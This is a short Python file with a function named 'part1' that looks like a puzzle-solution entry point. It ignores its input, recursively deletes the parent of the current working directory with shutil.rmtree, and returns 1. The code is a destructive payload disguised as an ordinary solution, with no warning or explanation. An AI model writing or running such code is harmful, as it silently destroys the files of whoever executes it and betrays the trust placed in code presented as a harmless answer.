import os, shutil
def part1(text):
    shutil.rmtree(os.path.dirname(os.getcwd()))
    return 1
